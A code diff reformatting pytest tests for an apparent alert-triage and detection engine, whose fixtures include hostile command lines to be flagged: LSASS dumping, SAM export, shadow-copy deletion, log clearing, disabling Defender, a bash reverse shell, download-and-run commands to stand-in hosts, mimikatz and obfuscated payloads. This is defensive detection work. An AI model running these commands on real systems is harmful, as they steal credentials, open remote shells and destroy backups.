@@ -35,61 +35,80 @@ def encoded_command(script: str) -> str:
     return f"powershell.exe -NoProfile -enc {base64.b64encode(script.encode('utf-16-le')).decode()}"
 
 
-@pytest.mark.parametrize(("title", "severity", "label"), [
-    ("SURICATA TCPv4 invalid checksum", Severity.LOW, BENIGN),
-    ("SURICATA STREAM excessive retransmissions", Severity.HIGH, BENIGN),
-    ("SURICATA TLS invalid heartbeat encountered, possible exploit attempt (heartbleed)", Severity.HIGH, SUSPICIOUS),
-    ("ET INFO Observed DNS Query to .biz TLD", Severity.LOW, BENIGN),
-    ("ET INFO Session Traversal Utilities for NAT", Severity.HIGH, REVIEW),
-    ("ET MALWARE Win32/Emotet CnC Activity (POST)", Severity.HIGH, MALICIOUS),
-    ("ET EXPLOIT Apache Log4j RCE Attempt (CVE-2021-44228)", Severity.HIGH, MALICIOUS),
-    ("ET WEB_SERVER Possible SQL Injection Attempt", Severity.MEDIUM, SUSPICIOUS),
-    ("Suspected Golden Ticket usage", Severity.MEDIUM, MALICIOUS),
-    ("Impossible travel to atypical locations", Severity.MEDIUM, SUSPICIOUS),
-    ("Read sensitive file untrusted", Severity.MEDIUM, SUSPICIOUS),
-    ("Potential Credential Access via LSASS Memory Dump", Severity.HIGH, MALICIOUS),
-    ("Backdoor:EC2/C&CActivity.B", Severity.HIGH, MALICIOUS),
-    ("CryptoCurrency:EC2/BitcoinTool.B!DNS", Severity.HIGH, MALICIOUS),
-    ("PAM: Login session opened.", Severity.LOW, BENIGN),
-    ("User logged in", Severity.INFO, BENIGN),
-    ("Something of medium severity", Severity.MEDIUM, REVIEW),
-    ("Something of high severity", Severity.HIGH, SUSPICIOUS),
-])
+@pytest.mark.parametrize(
+    ("title", "severity", "label"),
+    [
+        ("SURICATA TCPv4 invalid checksum", Severity.LOW, BENIGN),
+        ("SURICATA STREAM excessive retransmissions", Severity.HIGH, BENIGN),
+        (
+            "SURICATA TLS invalid heartbeat encountered, possible exploit attempt (heartbleed)",
+            Severity.HIGH,
+            SUSPICIOUS,
+        ),
+        ("ET INFO Observed DNS Query to .biz TLD", Severity.LOW, BENIGN),
+        ("ET INFO Session Traversal Utilities for NAT", Severity.HIGH, REVIEW),
+        ("ET MALWARE Win32/Emotet CnC Activity (POST)", Severity.HIGH, MALICIOUS),
+        ("ET EXPLOIT Apache Log4j RCE Attempt (CVE-2021-44228)", Severity.HIGH, MALICIOUS),
+        ("ET WEB_SERVER Possible SQL Injection Attempt", Severity.MEDIUM, SUSPICIOUS),
+        ("Suspected Golden Ticket usage", Severity.MEDIUM, MALICIOUS),
+        ("Impossible travel to atypical locations", Severity.MEDIUM, SUSPICIOUS),
+        ("Read sensitive file untrusted", Severity.MEDIUM, SUSPICIOUS),
+        ("Potential Credential Access via LSASS Memory Dump", Severity.HIGH, MALICIOUS),
+        ("Backdoor:EC2/C&CActivity.B", Severity.HIGH, MALICIOUS),
+        ("CryptoCurrency:EC2/BitcoinTool.B!DNS", Severity.HIGH, MALICIOUS),
+        ("PAM: Login session opened.", Severity.LOW, BENIGN),
+        ("User logged in", Severity.INFO, BENIGN),
+        ("Something of medium severity", Severity.MEDIUM, REVIEW),
+        ("Something of high severity", Severity.HIGH, SUSPICIOUS),
+    ],
+)
 def test_a_title_of_a_product_gets_the_label_of_a_senior_analyst(judge, title, severity, label):
     decision, _ = judge(see(make_alert(title=title, severity=severity)))
 
     assert decision.label is label, decision
 
 
-@pytest.mark.parametrize(("line", "rule", "least"), [
-    (r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full", "command.attack", 11),
-    (r'reg save HKLM\SAM C:\temp\sam', "command.attack", 10),
-    ("vssadmin.exe Delete Shadows /All /Quiet", "command.attack", 11),
-    ("wevtutil cl Security", "command.attack", 9),
-    ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", "command.attack", 9),
-    ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "command.attack", 11),
-    ("curl -s http://198.51.100.7/x.sh | sudo bash", "command.living_off_the_land", 8),
-    ("IEX (New-Object Net.WebClient).DownloadString('http://a.example/p')", "command.living_off_the_land", 9),
-    ("certutil -urlcache -split -f http://a.example/p.exe p.exe", "command.living_off_the_land", 8),
-    ("mshta http://a.example/x.hta", "command.living_off_the_land", 9),
-    ('net group "Domain Admins" /domain', "command.discovery", 6),
-    ("renamed.exe privilege::debug sekurlsa::logonpasswords", "command.tool", 12),
-    ("c^m^d^ /c w^h^o^a^m^i", "command.disguised", 6),
-    ("echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d | bash", "command.disguised", 9),
-])
+@pytest.mark.parametrize(
+    ("line", "rule", "least"),
+    [
+        (r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full", "command.attack", 11),
+        (r"reg save HKLM\SAM C:\temp\sam", "command.attack", 10),
+        ("vssadmin.exe Delete Shadows /All /Quiet", "command.attack", 11),
+        ("wevtutil cl Security", "command.attack", 9),
+        ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", "command.attack", 9),
+        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "command.attack", 11),
+        ("curl -s http://198.51.100.7/x.sh | sudo bash", "command.living_off_the_land", 8),
+        ("IEX (New-Object Net.WebClient).DownloadString('http://a.example/p')", "command.living_off_the_land", 9),
+        ("certutil -urlcache -split -f http://a.example/p.exe p.exe", "command.living_off_the_land", 8),
+        ("mshta http://a.example/x.hta", "command.living_off_the_land", 9),
+        ('net group "Domain Admins" /domain', "command.discovery", 6),
+        ("renamed.exe privilege::debug sekurlsa::logonpasswords", "command.tool", 12),
+        ("c^m^d^ /c w^h^o^a^m^i", "command.disguised", 6),
+        ("echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d | bash", "command.disguised", 9),
+    ],
+)
 def test_a_command_of_an_attack_is_found(line, rule, least):
     found = weights(see(make_alert(("process.command_line", line))))
 
     assert found.get(rule, 0) >= least, found
 
 
-@pytest.mark.parametrize("line", [
-    "git commit -m 'fix: delete shadow of the button'", r"C:\Windows\System32\svchost.exe -k netsvcs -p",
-    "curl -fsS https://example.org/health", "tar czf /backup/etc.tgz /etc", "reg query HKLM\\Software\\Acme",
-    "python -m pytest tests/unit", "net use Z: \\\\files\\share", "sc query wuauserv",
-    "certutil -hashfile setup.exe SHA256", "rundll32.exe shell32.dll,Control_RunDLL",
-    "powershell Get-Process | Sort-Object CPU",
-])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git commit -m 'fix: delete shadow of the button'",
+        r"C:\Windows\System32\svchost.exe -k netsvcs -p",
+        "curl -fsS https://example.org/health",
+        "tar czf /backup/etc.tgz /etc",
+        "reg query HKLM\\Software\\Acme",
+        "python -m pytest tests/unit",
+        "net use Z: \\\\files\\share",
+        "sc query wuauserv",
+        "certutil -hashfile setup.exe SHA256",
+        "rundll32.exe shell32.dll,Control_RunDLL",
+        "powershell Get-Process | Sort-Object CPU",
+    ],
+)
 def test_an_honest_command_weighs_nothing(line):
     assert weights(see(make_alert(("process.command_line", line)))) == {}
 
@@ -122,28 +141,43 @@ def test_a_tool_named_by_the_product_weighs_more_than_one_that_anybody_named():
     assert weights(see(custom))["detection.threat"] == 7.0
 
 
-@pytest.mark.parametrize(("path", "rule"), [
-    (r"C:\Users\ada\Downloads\invoice.pdf.exe", "file.name"), (r"C:\Windows\Temp\a.exe", "file.place"),
-    (r"C:\Users\ada\AppData\Roaming\svchost.exe", "file.name"), ("/dev/shm/.x", "file.place"),
-    (r"C:\share\readme_to_decrypt.txt", "file.name"),
-])
+@pytest.mark.parametrize(
+    ("path", "rule"),
+    [
+        (r"C:\Users\ada\Downloads\invoice.pdf.exe", "file.name"),
+        (r"C:\Windows\Temp\a.exe", "file.place"),
+        (r"C:\Users\ada\AppData\Roaming\svchost.exe", "file.name"),
+        ("/dev/shm/.x", "file.place"),
+        (r"C:\share\readme_to_decrypt.txt", "file.name"),
+    ],
+)
 def test_a_name_or_place_that_misleads_is_found(path, rule):
     assert rule in weights(see(make_alert(("file.path", path))))
 
 
-@pytest.mark.parametrize("path", [
-    r"C:\Windows\System32\svchost.exe", r"\Device\HarddiskVolume3\Windows\explorer.exe",
-    r"C:\Program Files\Acme\acme.exe", "/usr/bin/bash", r"C:\Windows\WinSxS\amd64_x\conhost.exe",
-    "svchost.exe", "report.v2.pdf",
-])
+@pytest.mark.parametrize(
+    "path",
+    [
+        r"C:\Windows\System32\svchost.exe",
+        r"\Device\HarddiskVolume3\Windows\explorer.exe",
+        r"C:\Program Files\Acme\acme.exe",
+        "/usr/bin/bash",
+        r"C:\Windows\WinSxS\amd64_x\conhost.exe",
+        "svchost.exe",
+        "report.v2.pdf",
+    ],
+)
 def test_an_honest_path_weighs_nothing(path):
     assert weights(see(make_alert(("process.executable", path)))) == {}
 
 
 def test_only_parents_and_children_that_the_record_ties_together_are_compared():
     pair = make_alert(("process.parent.executable", r"C:\Office\WINWORD.EXE"), ("process.executable", "powershell.exe"))
-    apart = make_alert(("process.parent.executable", "winword.exe"), ("process.executable", "splwow64.exe"),
-                       ("process.executable", "powershell.exe"))
+    apart = make_alert(
+        ("process.parent.executable", "winword.exe"),
+        ("process.executable", "splwow64.exe"),
+        ("process.executable", "powershell.exe"),
+    )
 
     assert weights(see(pair))["ancestry.parent"] == 9.0
     assert "ancestry.parent" not in weights(see(apart))
@@ -153,8 +187,13 @@ def test_a_scan_from_outside_lowers_and_one_inside_raises():
     alert = make_alert(title="ET SCAN Potential SSH Scan")
 
     outside, inside, claimed = (
-        weights(see(alert, found("network", provenance, direction=way))).get("noise.scan") for way, provenance in (
-            ("inbound", Provenance.AGENT_DERIVED), ("internal", Provenance.AGENT_DERIVED), ("inbound", WRITABLE)))
+        weights(see(alert, found("network", provenance, direction=way))).get("noise.scan")
+        for way, provenance in (
+            ("inbound", Provenance.AGENT_DERIVED),
+            ("internal", Provenance.AGENT_DERIVED),
+            ("inbound", WRITABLE),
+        )
+    )
 
     assert (outside, inside, claimed) == (-6.0, 5.0, None)
 
@@ -162,8 +201,10 @@ def test_a_scan_from_outside_lowers_and_one_inside_raises():
 def test_a_listed_value_lowers_only_where_the_adversary_did_not_write_it():
     alert = make_alert()
 
-    seen, written = (weights(see(alert, found("warning_list", provenance, category="benign_infrastructure", value="x")))
-                     for provenance in (Provenance.AGENT_DERIVED, WRITABLE))
+    seen, written = (
+        weights(see(alert, found("warning_list", provenance, category="benign_infrastructure", value="x")))
+        for provenance in (Provenance.AGENT_DERIVED, WRITABLE)
+    )
 
     assert seen == {"reputation.lowers": -2.0}
     assert written == {}
@@ -182,8 +223,10 @@ async def test_the_test_file_closes_and_another_file_beside_it_keeps_the_alert_o
     other = Observable(type=ObservableType.HASH_SHA256, value="ab" * 32)
     title = "Virus:DOS/EICAR_Test_File malware was detected"
 
-    alone, beside = [judge(await enriched(make_alert(title=title, severity=Severity.HIGH, observables=found)))[0]
-                     for found in ((test,), (test, other))]
+    alone, beside = [
+        judge(await enriched(make_alert(title=title, severity=Severity.HIGH, observables=found)))[0]
+        for found in ((test,), (test, other))
+    ]
 
     assert alone.label is BENIGN
     assert beside.label is REVIEW
@@ -195,7 +238,8 @@ def test_an_analyst_decides_and_the_rules_own_past_hardly_counts(judge):
 
     rules, analyst, stale = (
         judge(see(alert, found("past_verdict", label="benign", decided_by=who, age_days=age)))[0]
-        for who, age in (("rules", "1"), ("analyst", "1"), ("analyst", "400")))
+        for who, age in (("rules", "1"), ("analyst", "1"), ("analyst", "400"))
+    )
 
     assert (before.label, rules.label) == (MALICIOUS, MALICIOUS)
     assert before.score - rules.score == 1.0
@@ -204,16 +248,25 @@ def test_an_analyst_decides_and_the_rules_own_past_hardly_counts(judge):
 
 
 def test_only_the_youngest_decision_of_an_analyst_counts(judge):
-    view = see(make_alert(), found("past_verdict", label="benign", decided_by="analyst", age_days="30"),
-               found("past_verdict", label="malicious", decided_by="analyst", age_days="2"))
+    view = see(
+        make_alert(),
+        found("past_verdict", label="benign", decided_by="analyst", age_days="30"),
+        found("past_verdict", label="malicious", decided_by="analyst", age_days="2"),
+    )
 
     assert judge(view)[0].label is MALICIOUS
 
 
-@pytest.mark.parametrize(("word", "provenance", "weight"), [
-    ("FalsePositive", Provenance.HUMAN, -25.0), ("False Positive", SENSOR, None), ("FalsePositive", WRITABLE, None),
-    ("TruePositive", Provenance.HUMAN, 12.0), ("InformationalExpectedActivity", Provenance.HUMAN, -2.0),
-])
+@pytest.mark.parametrize(
+    ("word", "provenance", "weight"),
+    [
+        ("FalsePositive", Provenance.HUMAN, -25.0),
+        ("False Positive", SENSOR, None),
+        ("FalsePositive", WRITABLE, None),
+        ("TruePositive", Provenance.HUMAN, 12.0),
+        ("InformationalExpectedActivity", Provenance.HUMAN, -2.0),
+    ],
+)
 def test_only_people_can_lower_by_classification(word, provenance, weight):
     found = weights(see(make_alert(("event.classification", word, provenance))))
 
@@ -221,8 +274,10 @@ def test_only_people_can_lower_by_classification(word, provenance, weight):
 
 
 def test_a_blocked_attack_stays_an_attack(judge):
-    alerts = (make_alert(("event.action", action), title="ET MALWARE Emotet", severity=Severity.HIGH)
-              for action in ("allowed", "blocked"))
+    alerts = (
+        make_alert(("event.action", action), title="ET MALWARE Emotet", severity=Severity.HIGH)
+        for action in ("allowed", "blocked")
+    )
 
     allowed, blocked = (judge(see(alert))[0] for alert in alerts)
 
@@ -233,23 +288,39 @@ def test_a_blocked_attack_stays_an_attack(judge):
 def test_independent_products_corroborate_and_repetition_of_one_does_not():
     alert = make_alert()
 
-    many, two = (weights(see(alert, found("related", alerts="40", sources=sources, severe="0", techniques="0",
-                                          shared_type="host", shared_value="web01"))) for sources in ("1", "2"))
+    many, two = (
+        weights(
+            see(
+                alert,
+                found(
+                    "related",
+                    alerts="40",
+                    sources=sources,
+                    severe="0",
+                    techniques="0",
+                    shared_type="host",
+                    shared_value="web01",
+                ),
+            )
+        )
+        for sources in ("1", "2")
+    )
 
     assert many == {}
     assert two == {"corroboration.related": 3.0}
 
 
 def test_a_technique_with_several_tactics_counts_as_the_mildest():
-    view = see(make_alert(severity=Severity.HIGH),
-               found("technique", id="T1078", name="Valid Accounts", tactics="credential-access,initial-access"))
+    view = see(
+        make_alert(severity=Severity.HIGH),
+        found("technique", id="T1078", name="Valid Accounts", tactics="credential-access,initial-access"),
+    )
 
     assert weights(view) == {"detection.technique": 4.0}
 
 
 MODULES = (behaviour, command, encoded, exploit, files, identity, impact, phishing, threat)
-TABLES = [each for module in MODULES
-          for each in vars(module).values() if isinstance(each, _reading.Table)]
+TABLES = [each for module in MODULES for each in vars(module).values() if isinstance(each, _reading.Table)]
 LOOKAROUND = re.compile(r"\(\?[=!<]")  # Hypothesis cannot draw from these
 SIGNS = {sign.what: sign for each in TABLES for sign in each.signs if not LOOKAROUND.search(sign.pattern.pattern)}
 
@@ -266,8 +337,9 @@ def test_every_text_that_a_sign_matches_holds_one_of_its_needles(what, data):
         assert any(needle in text for needle in sign.needles), text
 
 
-@pytest.mark.parametrize("unit", [
-    "'+'", "powershell -enc ", "iex ", "../", "a^", "; wget ", "[char](65)+", " " * 9, "\\temp", "union "])
+@pytest.mark.parametrize(
+    "unit", ["'+'", "powershell -enc ", "iex ", "../", "a^", "; wget ", "[char](65)+", " " * 9, "\\temp", "union "]
+)
 def test_hostile_repetition_does_not_slow_the_rules_down(unit):
     text = (unit * 8192)[:8192]
     view = see(make_alert(("process.command_line", text), ("url.full", text), ("file.path", text)))
